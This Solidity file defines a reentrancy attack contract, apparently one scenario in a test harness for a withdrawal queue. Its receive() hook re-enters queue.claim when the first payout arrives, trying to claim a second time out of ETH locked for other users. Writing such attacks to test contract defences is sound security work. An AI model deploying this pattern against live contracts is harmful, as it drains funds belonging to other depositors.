// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title A claim inside the claim
/// @notice Claims once more when the ETH of the first claim arrives, out of what is locked for others.
contract ReentrantClaim is Exploit {
    uint256 private _ticket;
    bool private _isInside;

    constructor(Scene memory scene) payable Exploit(scene) {}

    receive() external payable override {
        if (msg.sender != address(queue) || _isInside) return;
        _isInside = true;
        // what refuses it refuses the second claim alone
        try queue.claim(_ticket, address(this)) {} catch {}
    }

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) _ticket = _request(_deposit(address(this).balance));
        if (number == 2) queue.claim(_ticket, address(this));
    }
}
